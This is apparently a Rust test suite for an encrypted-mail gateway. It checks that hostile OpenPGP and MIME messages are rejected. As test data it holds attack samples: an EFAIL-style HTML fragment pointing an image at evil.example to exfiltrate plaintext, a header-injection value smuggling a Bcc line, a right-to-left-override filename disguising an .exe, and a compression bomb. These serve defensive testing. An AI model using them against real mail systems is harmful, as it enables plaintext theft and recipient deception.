//! Hostile mails, by their ids in the list of bad inputs.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    reason = "tests"
)]
#![forbid(unsafe_code)]

mod support;

use std::io::Write as _;
use std::sync::atomic::Ordering;

use chancery_mail::content::certificate::{CertificateError, inspect, read_file};
use chancery_message::{Parsed, SignatureEvidence};
use proptest::prelude::*;
use sequoia_openpgp::packet::prelude::*;
use sequoia_openpgp::packet::{Body, Tag};
use sequoia_openpgp::parse::Parse as _;
use sequoia_openpgp::serialize::SerializeInto as _;
use sequoia_openpgp::serialize::stream::{
    Armorer, Compressor, Encryptor, LiteralWriter, Message, Recipient,
};
use sequoia_openpgp::types::{CompressionAlgorithm, Features};
use sequoia_openpgp::{Cert, Packet, PacketPile, armor};
use support::gpg::Gpg;
use support::mail::{ALICE, INNER, OUTER, World, crlf, encrypted_mail, mail, sealed, signed_mail};
use support::soft::{GATEWAY, now};

/// A message encrypted by sequoia, compressed so many times.
fn made(world: &World, layers: usize, content: &[u8], repeat: usize) -> Vec<u8> {
    let cert = Cert::from_bytes(&world.certificate_bytes).unwrap();
    let key = cert.keys().subkeys().next().unwrap().key().clone();
    let recipient = Recipient::new(Features::empty().set_seipdv1(), key.key_handle(), &key);
    let mut out = Vec::new();
    let message = Armorer::new(Message::new(&mut out)).build().unwrap();
    let mut message = Encryptor::for_recipients(message, vec![recipient])
        .build()
        .unwrap();
    for _ in 0..layers {
        message = Compressor::new(message)
            .algo(CompressionAlgorithm::Zip)
            .build()
            .unwrap();
    }
    let mut message = LiteralWriter::new(message).build().unwrap();
    for _ in 0..repeat {
        message.write_all(content).unwrap();
    }
    message.finalize().unwrap();
    out
}

fn binary(armored: &[u8]) -> PacketPile {
    PacketPile::from_bytes(armored).unwrap()
}

fn armored(octets: &[u8]) -> Vec<u8> {
    let mut writer = armor::Writer::new(Vec::new(), armor::Kind::Message).unwrap();
    writer.write_all(octets).unwrap();
    writer.finalize().unwrap()
}

#[test]
fn pgp_001_to_003_bombs_are_bounded() {
    let world = World::new();
    let bomb = made(&world, 1, &vec![0u8; 1 << 20], 256);
    assert!(bomb.len() < 1 << 20);
    let said = world.malformed(&encrypted_mail(OUTER, &bomb));
    assert!(said.contains("grows beyond"), "{said}");
    let nested = made(&world, 3, INNER.as_bytes(), 1);
    let said = world.malformed(&encrypted_mail(OUTER, &nested));
    assert!(said.contains("compressed more than once"), "{said}");
    // Its benign twin.
    world.whole(&encrypted_mail(
        OUTER,
        &made(&world, 1, INNER.as_bytes(), 1),
    ));
    world.whole(&encrypted_mail(
        OUTER,
        &made(&world, 0, INNER.as_bytes(), 1),
    ));
}

#[test]
fn pgp_004_and_005_changed_ciphertext_gives_nothing() {
    let (world, alice) = World::with_alice("ed25519");
    let pile = binary(&sealed(&alice, INNER.as_bytes()));
    let change = |edit: &dyn Fn(&mut Vec<u8>)| {
        let mut packets: Vec<Packet> = pile.children().cloned().collect();
        for packet in &mut packets {
            if let Packet::SEIP(SEIP::V1(container)) = packet {
                let Body::Unprocessed(octets) = container.body() else {
                    panic!("encrypted octets were expected");
                };
                let mut octets = octets.clone();
                edit(&mut octets);
                container.set_body(Body::Unprocessed(octets));
            }
        }
        let octets = PacketPile::from(packets).to_vec().unwrap();
        encrypted_mail(OUTER, &armored(&octets))
    };
    world.whole(&change(&|_| {}));
    let cut = change(&|octets| octets.truncate(octets.len() - 22));
    let said = world.malformed(&cut);
    for at in [20, 60, 120, 180] {
        let flipped = change(&|octets| octets[at] ^= 1);
        assert_eq!(world.malformed(&flipped), said, "one answer, no oracle");
    }
    let last = change(&|octets| {
        let end = octets.len() - 1;
        octets[end] ^= 1;
    });
    assert_eq!(world.malformed(&last), said);
}

#[test]
fn pgp_006_and_032_old_containers_are_refused() {
    let (world, alice) = World::with_alice("ed25519");
    let octets = binary(&sealed(&alice, INNER.as_bytes())).to_vec().unwrap();
    // The encrypted container's header: 0xd2 is tag 18, new format.
    let at = octets.iter().position(|octet| *octet == 0xd2).unwrap();
    let retagged = |tag: u8| {
        let mut octets = octets.clone();
        octets[at] = 0xc0 | tag;
        encrypted_mail(OUTER, &armored(&octets))
    };
    world.whole(&retagged(18));
    world.malformed(&retagged(9));
    world.malformed(&retagged(20));
    assert_eq!(
        world.keys.agreements.load(Ordering::Relaxed),
        1,
        "the token is not asked for them"
    );
    // Old format, length until the end of the file.
    let mut endless = octets[..at].to_vec();
    endless.push(0x80 | 18 << 2 & 0x3c | 3);
    endless.extend_from_slice(&octets[at + 3..]);
    world.malformed(&encrypted_mail(OUTER, &armored(&endless)));
}

#[test]
fn passwords_and_plain_literals_are_refused() {
    let (world, alice) = World::with_alice("ed25519");
    let symmetric = alice.must(
        &[
            "--armor",
            "--passphrase",
            "x",
            "-r",
            GATEWAY,
            "--symmetric",
            "--encrypt",
        ],
        INNER.as_bytes(),
    );
    world.malformed(&encrypted_mail(OUTER, &symmetric));
    // Only signed where it must be encrypted.
    let signed = alice.must(&["--armor", "--sign"], INNER.as_bytes());
    let said = world.malformed(&encrypted_mail(OUTER, &signed));
    assert!(said.contains("not encrypted"), "{said}");
    // To somebody else.
    let other = Gpg::with_key("other@agency.example", "ed25519");
    let armored = other.must(
        &["--armor", "-r", "other@agency.example", "--encrypt"],
        INNER.as_bytes(),
    );
    world.malformed(&encrypted_mail(OUTER, &armored));
    assert_eq!(world.keys.agreements.load(Ordering::Relaxed), 0);
}

#[test]
fn pgp_010_and_013_mixtures_are_refused() {
    let (world, alice) = World::with_alice("ed25519");
    // An unsigned message before a signed one, in one part.
    let plain = made(&world, 0, INNER.as_bytes(), 1);
    let mut both = binary(&plain).to_vec().unwrap();
    both.extend(binary(&sealed(&alice, INNER.as_bytes())).to_vec().unwrap());
    world.malformed(&encrypted_mail(OUTER, &armored(&both)));
    // Two armored blocks.
    let mut two = plain.clone();
    two.extend_from_slice(&plain);
    world.malformed(&encrypted_mail(OUTER, &two));
    let mut around = b"text before\n".to_vec();
    around.extend_from_slice(&plain);
    world.malformed(&encrypted_mail(OUTER, &around));
    // A signed message where a detached signature must be.
    let content = "Content-Type: text/plain\r\n\r\nTLP:CLEAR\r\n";
    let raw = String::from_utf8(signed_mail(&alice, content)).unwrap();
    let inline = alice.must(&["--armor", "--sign"], b"other text");
    let inline = String::from_utf8(crlf(&inline))
        .unwrap()
        .replace("PGP MESSAGE", "PGP SIGNATURE");
    let (head, tail) = raw.split_once("-----BEGIN").unwrap();
    let (_, tail) = tail.split_once("-----END PGP SIGNATURE-----\r\n").unwrap();
    let read = world.whole(format!("{head}{inline}{tail}").as_bytes());
    assert!(
        matches!(read.signature, SignatureEvidence::Bad { .. }),
        "{:?}",
        read.signature
    );
}

#[test]
fn pgp_037_and_038_the_token_is_asked_a_bounded_number_of_times() {
    let (world, alice) = World::with_alice("ed25519");
    let others: Vec<PacketPile> = (0..3)
        .map(|_| binary(&alice.must(&["--armor", "-R", GATEWAY, "--encrypt"], b"x")))
        .collect();
    let session_keys: Vec<Packet> = others
        .iter()
        .flat_map(|pile| {
            pile.children()
                .filter(|packet| packet.tag() == Tag::PKESK)
                .cloned()
                .collect::<Vec<_>>()
        })
        .collect();
    let pile = binary(&sealed(&alice, INNER.as_bytes()));
    let with = |count: usize| {
        let mut packets: Vec<Packet> = session_keys.iter().cycle().take(count).cloned().collect();
        packets.extend(
            pile.children()
                .filter(|packet| packet.tag() != Tag::PKESK)
                .cloned(),
        );
        encrypted_mail(
            OUTER,
            &armored(&PacketPile::from(packets).to_vec().unwrap()),
        )
    };
    world.malformed(&with(99));
    assert!(world.keys.agreements.load(Ordering::Relaxed) <= 8);
    world.keys.agreements.store(0, Ordering::Relaxed);
    let said = world.malformed(&with(500));
    assert!(said.contains("more than 100"), "{said}");
    assert_eq!(world.keys.agreements.load(Ordering::Relaxed), 0);
}

#[test]
fn pgp_034_and_044_certificates_are_bounded_and_public() {
    let alice = Gpg::with_key(ALICE, "ed25519");
    let certificate = alice.export(ALICE);
    let read = read_file(&certificate).unwrap();
    let info = inspect(&read, now()).unwrap();
    assert_eq!(info.addresses, [ALICE]);
    assert_eq!(info.fingerprint, alice.fingerprint(ALICE));
    assert!(info.can_encrypt && info.can_sign && info.expires_at.is_none());
    assert_eq!(
        read_file(&alice.must(&["--armor", "--export", ALICE], b"")).unwrap(),
        read
    );
    let secret = alice.must(&["--export-secret-keys", ALICE], b"");
    assert_eq!(read_file(&secret), Err(CertificateError::Secret));
    let mut twice = certificate.clone();
    alice.generate("second@agency.example", "ed25519", "never");
    twice.extend(alice.export("second@agency.example"));
    assert_eq!(read_file(&twice), Err(CertificateError::NotOne));
    assert_eq!(
        read_file(&vec![0x99; 600_000]),
        Err(CertificateError::TooLarge)
    );
    assert!(matches!(
        read_file(b"nothing"),
        Err(CertificateError::Unreadable(_) | CertificateError::NotOne)
    ));
    assert!(read_file(b"").is_err());
}

/// The outer mail as it is when nothing is wrong, to be changed.
fn good_outside(world: &World, alice: &Gpg) -> String {
    let raw = mail(alice, INNER);
    world.whole(&raw);
    String::from_utf8(raw).unwrap()
}

#[test]
fn mime_outsides_are_strict() {
    let (world, alice) = World::with_alice("ed25519");
    let good = good_outside(&world, &alice);
    for (from, to) in [
        // MIME-015, MIME-016
        ("To: liaison", "From: mallory@agency.example\r\nTo: liaison"),
        (
            "<Alice@agency.example>",
            "<Alice@agency.example>, bob@agency.example",
        ),
        ("From: Alice <Alice@agency.example>\r\n", ""),
        ("Date: Sun, 22 Nov 2026 09:29:00 +0000\r\n", ""),
        // MIME-040
        ("22 Nov 2026", "22 Nov 292277026596"),
        ("+0000", "+9999"),
        ("Message-ID: <1@agency.example>\r\n", ""),
        (
            "Message-ID: <1@agency.example>",
            "Message-ID: <1@agency.example>\r\nMessage-ID: <2@agency.example>",
        ),
        ("MIME-Version: 1.0\r\n", ""),
        ("MIME-Version: 1.0", "MIME-Version: 2.0"),
        // MIME-006, MIME-007
        ("boundary=\"limit\"", "boundary*0=lim; boundary*1=it"),
        ("boundary=\"limit\"", "boundary=\"limit \""),
        ("boundary=\"limit\"", "boundary=\"li\\mit\"; boundary=limit"),
        ("--limit--", "--limit"),
        ("--limit--\r\n", "--limit--\r\nmore\r\n"),
        // Line ends and NUL.
        ("Subject: [...]\r\n", "Subject: [...]\n"),
        ("Subject: [...]", "Subject: [..\0.]"),
        ("Subject: [...]", "Subject: [...]\rBcc: x"),
        ("application/octet-stream;", "application/octet-stream (x);"),
        ("Version: 1\r\n\r\n--limit", "Version: 1\r\n\r\n--limit-"),
    ] {
        assert!(good.contains(from), "{from:?}");
        world.malformed(good.replacen(from, to, 1).as_bytes());
    }
    // SMTP-034, MIME-039
    let hops = format!("{}{good}", "Received: from x\r\n".repeat(101));
    assert!(world.malformed(hops.as_bytes()).contains("loop"));
    let many = format!("{}{good}", "X: y\r\n".repeat(100_000));
    world.malformed(many.as_bytes());
    let long = good.replace(
        "Subject: [...]",
        &format!("Subject: {}", "x".repeat(1 << 20)),
    );
    world.malformed(long.as_bytes());
    // The envelope.
    for to in [&[][..], &["x@elsewhere.example"], &["no address"]] {
        let parsed = world.try_read_to(to, good.as_bytes()).unwrap();
        assert!(matches!(parsed, Parsed::Malformed(_)), "{to:?}");
    }
}

/// EFAIL, Johnny, Covert: protection of a part is no protection.
#[test]
fn mixed_protection_is_for_an_officer() {
    let (world, alice) = World::with_alice("ed25519");
    let sealed = String::from_utf8(crlf(&sealed(&alice, INNER.as_bytes()))).unwrap();
    let wrap = |kind: &str, parts: &[&str]| {
        let mut raw = format!("{OUTER}Content-Type: {kind}; boundary=outside\r\n\r\n");
        for part in parts {
            raw.push_str(&format!("--outside\r\n{part}\r\n"));
        }
        raw + "--outside--\r\n"
    };
    let whole = good_outside(&world, &alice);
    let encrypted = whole.replace(OUTER, "");
    let html = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/";
    let text = "Content-Type: text/plain\r\n\r\nUnsigned words.";
    let octets = format!("Content-Type: application/octet-stream\r\n\r\n{sealed}");
    let control = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n";
    let message = format!("Content-Type: message/rfc822\r\n\r\n{whole}");
    let inline = format!("Content-Type: text/plain\r\n\r\n{sealed}");
    let signed =
        String::from_utf8(signed_mail(&alice, "Content-Type: text/plain\r\n\r\nx")).unwrap();
    let signed = signed.replace(OUTER, "");
    let protocol = "multipart/encrypted; protocol=\"application/pgp-encrypted\"";
    for raw in [
        // MIME-029, MIME-030
        wrap(
            "multipart/mixed",
            &[html, &encrypted, "Content-Type: text/html\r\n\r\n\">"],
        ),
        wrap("multipart/mixed", &[text, &encrypted]),
        wrap("multipart/mixed", &[&encrypted]),
        // MIME-031 to MIME-033
        wrap("multipart/mixed", &[&signed, html]),
        wrap("multipart/related", &[html, &signed]),
        wrap("multipart/mixed", &[text, &message]),
        // Inline, and clear-signed.
        format!("{OUTER}{inline}"),
        format!(
            "{OUTER}Content-Type: text/plain\r\n\r\n{}",
            String::from_utf8(crlf(&alice.must(&["--clearsign"], b"words\n"))).unwrap()
        ),
        // Wrong numbers, orders and types of parts.
        wrap(protocol, &[control, &octets, text]),
        wrap(protocol, &[control]),
        wrap(protocol, &[&octets, control]),
        wrap(protocol, &[control, &inline]),
        wrap(
            protocol,
            &[
                "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 2\r\n",
                &octets,
            ],
        ),
        wrap(
            "multipart/encrypted; protocol=\"application/pkcs7\"",
            &[control, &octets],
        ),
        wrap("multipart/encrypted", &[control, &octets]),
        // Nothing at all.
        format!("{OUTER}{text}"),
        format!("{OUTER}{html}"),
    ] {
        let said = world.suspicious(raw.as_bytes());
        assert!(!said.contains("words"), "{said}");
    }
    // Encrypted, and signed outside of it.
    let layered = signed_mail(&alice, encrypted.replace("limit", "other").trim_end());
    world.suspicious(&layered);
    // Encrypted inside of the encrypted.
    world.suspicious(&mail(&alice, &encrypted));
}

#[test]
fn insides_are_strict_too() {
    let (world, alice) = World::with_alice("ed25519");
    let header = "Subject: x\r\n";
    let plain = "Content-Type: text/plain\r\n\r\ntext";
    let html = "Content-Type: text/html\r\n\r\n<p>text";
    let mixed = |kind: &str, parts: &[&str]| {
        let mut inner = format!("{header}Content-Type: {kind}; boundary=inside\r\n\r\n");
        for part in parts {
            inner.push_str(&format!("--inside\r\n{part}\r\n"));
        }
        inner + "--inside--\r\n"
    };
    for inner in [
        mixed("multipart/alternative", &[plain, html]),
        mixed("multipart/related", &[plain, html]),
        mixed("multipart/mixed", &[plain, html]),
        // MIME-019
        mixed(
            "multipart/mixed",
            &[
                plain,
                "Content-Type: a/b\r\nContent-Disposition: attachment; filename*=utf-8''report%E2%80%AEfdp.exe\r\n\r\nx",
            ],
        ),
        mixed(
            "multipart/mixed",
            &[plain, "Content-Type: application/pgp-signature\r\n\r\nx"],
        ),
        "Content-Type: text/plain\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n".to_owned(),
        "Content-Type: text/plain; charset=utf-8\r\nSubject: =?utf-8?B?4oCucmV2ZXJzZQ==?=\r\n\r\nx"
            .to_owned(),
    ] {
        world.suspicious(&mail(&alice, &inner));
    }
    for inner in [
        // MIME-028
        format!("{header}{html}"),
        // MIME-013
        "Subject: =?utf-8?Q?x=0D=0ABcc:_evil?=\r\nContent-Type: text/plain\r\n\r\nx".to_owned(),
        // MIME-009
        "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\naGVs*bG8=\r\n".to_owned(),
        "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\naGVsbG8=aGVs\r\n".to_owned(),
        // MIME-041, MIME-043
        "Content-Type: text/plain; charset=utf-7\r\n\r\n+ADw-".to_owned(),
        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=C0=AF".to_owned(),
        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=1B[2J".to_owned(),
        "Content-Type: text/plain\r\n\r\n\u{e9}".to_owned(),
        // MIME-042
        mixed("multipart/mixed", &[plain, "Content-Type: application/ms-tnef\r\n\r\nx"]),
        mixed("multipart/mixed", &[plain, "Content-Type: a/b; name=winmail.dat\r\n\r\nx"]),
        mixed("multipart/mixed", &[plain, "Content-Type: message/partial; id=x; number=1\r\n\r\nA: b\r\n\r\nx"]),
        mixed("multipart/mixed", &[plain, "Content-Type: message/external-body; access-type=url\r\n\r\nA: b\r\n\r\nx"]),
        mixed("multipart/digest", &["Content-Type: message/rfc822\r\n\r\nA: b\r\n\r\nx"]),
        mixed("multipart/mixed", &["Content-Type: application/pdf\r\n\r\nx"]),
        // Bare line ends inside the encrypted part.
        "Content-Type: text/plain\n\ntext\n".to_owned(),
        "no header at all".to_owned(),
        String::new(),
        "MMHS-Primary-Precedence: soon\r\nContent-Type: text/plain\r\n\r\nx".to_owned(),
        "Chancery-Purpose: fun\r\nContent-Type: text/plain\r\n\r\nx".to_owned(),
        format!("Content-Type: text/plain\r\nSubject: {0}\r\n {0}\r\n\r\nx", "\u{3b1}".repeat(300)),
        mixed("multipart/mixed", &[plain; 66]),
    ] {
        let raw = encrypted_mail(OUTER, &sealed(&alice, inner.as_bytes()));
        world.malformed(&raw);
    }
    // MIME-001
    let mut deep = String::new();
    for depth in 0..2000 {
        deep.push_str(&format!(
            "Content-Type: multipart/mixed; boundary=x{depth}x\r\n\r\n--x{depth}x\r\n"
        ));
    }
    world.malformed(&mail(&alice, &deep));
}

#[test]
fn a_large_attachment_is_read() {
    let (world, alice) = World::with_alice("ed25519");
    // GOOD-002, smaller.
    let octets: Vec<u8> = (0..3_000_000u32)
        .map(|n| u8::try_from(n.wrapping_mul(2_654_435_761) >> 24).unwrap())
        .collect();
    let mut inner = "Content-Type: multipart/mixed; boundary=inside\r\n\r\n--inside\r\n\
        Content-Type: text/plain\r\n\r\ntext\r\n--inside\r\nContent-Type: application/pdf\r\n\
        Content-Transfer-Encoding: base64\r\n\r\n"
        .to_owned();
    use base64::Engine as _;
    let encoded = base64::engine::general_purpose::STANDARD.encode(&octets);
    for line in encoded.as_bytes().chunks(76) {
        inner.push_str(std::str::from_utf8(line).unwrap());
        inner.push_str("\r\n");
    }
    inner.push_str("--inside--\r\n");
    let read = world.whole(&mail(&alice, &inner));
    let chancery_message::AttachmentContent::Inline(content) = &read.attachments[0].content else {
        panic!("inline content was expected");
    };
    assert!(content.expose() == octets);
}

type Edit = (prop::sample::Index, u8, u8);

/// Octets changed, removed, put in, cut off.
fn edited(octets: &[u8], edits: Vec<Edit>) -> Vec<u8> {
    let mut changed = octets.to_vec();
    for (at, octet, how) in edits {
        if changed.is_empty() {
            break;
        }
        let at = at.index(changed.len());
        match how {
            0..=2 => changed[at] = octet,
            3..=5 => {
                changed.remove(at);
            }
            6..=8 => changed.insert(at, octet),
            _ => changed.truncate(at),
        }
    }
    changed
}

/// No input makes the reader panic, and none that was changed is believed.
#[test]
fn changed_mails_are_never_good() {
    let (world, alice) = World::with_alice("ed25519");
    let raw = mail(&alice, INNER);
    let signed = signed_mail(
        &alice,
        "Content-Type: text/plain\r\nSubject: x\r\n\r\nTLP:CLEAR\r\n\r\nThe text.",
    );
    let original = world.whole(&raw);
    let original_signed = world.whole(&signed);
    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig {
        cases: 400,
        failure_persistence: None,
        ..ProptestConfig::default()
    });
    let edits =
        proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>(), 0..10u8), 1..6);
    runner
        .run(&(edits, any::<bool>()), |(edits, use_signed)| {
            let changed = edited(if use_signed { &signed } else { &raw }, edits);
            // Whatever it is, it is judged; what is whole and good is the original.
            if let Parsed::Whole(read) = world.try_read(&changed).unwrap()
                && matches!(read.signature, SignatureEvidence::Good { .. })
            {
                let original = if use_signed {
                    &original_signed
                } else {
                    &original
                };
                prop_assert_eq!(&read.body, &original.body);
                prop_assert_eq!(&read.label, &original.label);
                prop_assert_eq!(&read.subject, &original.subject);
            }
            Ok(())
        })
        .unwrap();
}

#[test]
fn changed_insides_never_panic() {
    let world = World::new();
    let inner = "Content-Type: multipart/mixed; boundary=inner\r\nSubject: =?utf-8?Q?x?=\r\n\
        SIO-Label: marking=\"RESTREINT UE/EU RESTRICTED\"\r\n\r\n--inner\r\nContent-Type: text/plain; charset=utf-8\r\n\
        Content-Transfer-Encoding: quoted-printable\r\n\r\nA =C3=A9\r\n--inner\r\nContent-Type: message/rfc822\r\n\r\n\
        A: b\r\n\r\nx\r\n--inner\r\nContent-Type: a/b\r\nContent-Transfer-Encoding: base64\r\n\
        Content-Disposition: attachment; filename*0*=utf-8''a; filename*1=b\r\n\r\naGVsbG8=\r\n--inner--\r\n";
    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig {
        cases: 600,
        failure_persistence: None,
        ..ProptestConfig::default()
    });
    let edits =
        proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>(), 0..10u8), 1..8);
    runner
        .run(&edits, |edits| {
            let changed = edited(inner.as_bytes(), edits);
            let raw = encrypted_mail(OUTER, &made(&world, 0, &changed, 1));
            world.try_read(&raw).unwrap();
            Ok(())
        })
        .unwrap();
}
